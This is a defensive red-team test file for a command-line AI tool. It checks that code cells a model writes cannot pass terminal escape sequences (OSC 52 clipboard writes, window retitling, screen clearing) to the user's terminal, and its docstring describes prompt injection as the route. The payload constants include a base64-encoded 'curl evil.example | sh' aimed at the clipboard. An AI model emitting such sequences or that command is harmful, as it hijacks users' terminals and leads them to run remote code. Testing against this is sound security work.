"""Red team: what a cell (or the model) prints reaches the user's terminal as control sequences.

`_cli_render` prints cell output as rich `Text`, never as markup, so a model
cannot *style* it. But rich's `Text` strips only a few C0 controls (BEL,
BS, VT, FF, CR): ESC passes through, so OSC and CSI sequences a cell prints
reach the terminal of whoever runs ``cavelite``. An OSC string can be ended
with ``ESC \\`` instead of BEL. A cell can then set the user's clipboard
(OSC 52, honoured by xterm, kitty, iTerm2, WezTerm, tmux), retitle the
window, clear the screen and draw a fake prompt or answer. The data a
model reads can carry such a cell (prompt injection), so this is the
host's terminal obeying untrusted bytes.

The test runs the real command in a pseudo-terminal and checks the raw
bytes written to it.
"""

from __future__ import annotations

from fakes import fixtures as loopback
from fakes.terminal import Terminal
from test_cli_terminal import COMMAND, env, py  # noqa: F401 - env is a fixture

openai_server = loopback.openai_server
openai_api = loopback.openai_api

CLIPBOARD = b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=="  # base64 of "curl evil.example | sh"
TITLE = b"\x1b]0;cave-owned-your-title"

# Built at run time from chr(27): the model's reply holds no escape character itself.
CELL = py("E = chr(27)\n"
          "print(E + ']52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==' + E + '\\\\')\n"
          "print(E + ']0;cave-owned-your-title' + E + '\\\\')\n"
          "print('ordinary output')")


def test_cell_output_cannot_drive_the_users_terminal(openai_api, env) -> None:  # noqa: F811
    openai_api.reply(CELL)
    openai_api.reply("Done.")
    term = Terminal([*COMMAND, "run", "show it", "--base-url", openai_api.url], env=env)
    try:
        term.expect("ordinary output")
        term.expect("Done")
        term.wait()
        assert CLIPBOARD not in term.raw, "the cell wrote the user's clipboard (OSC 52)"
        assert TITLE not in term.raw, "the cell retitled the user's terminal (OSC 0)"
    finally:
        term.close()


def test_every_control_but_newline_and_tab_is_shown_not_obeyed() -> None:
    """The console's rule on its own: C0, DEL and C1 in any renderable's text become visible."""
    import io
    import json

    from rich.markdown import Markdown
    from rich.panel import Panel
    from rich.syntax import Syntax
    from rich.table import Table

    from cavelite._cli_console import TerminalConsole, json_text

    hostile = "a\x1b]0;t\x07b\x9b2Jc\x7fd\re\tf\ng"
    table = Table()
    table.add_column("name")
    table.add_row(hostile)
    out = io.StringIO()
    console = TerminalConsole(file=out, force_terminal=True, width=100)
    for renderable in (Panel(hostile), Syntax(hostile, "python"), Markdown(hostile), table, hostile):
        console.print(renderable, markup=False)
    written = out.getvalue()
    plain = written.replace("\x1b[", "")  # rich's own colour codes (CSI) are allowed
    assert "\x1b" not in plain and "\x07" not in written and "\x9b" not in written
    assert "\x7f" not in written and "␛" in written and "\\x9b" in written and "Jc␡d" in written
    record = json_text({"stdout": hostile})
    assert json.loads(record) == {"stdout": hostile}
    assert not any(ch in record for ch in "\x1b\x07\x9b\x7f\r")
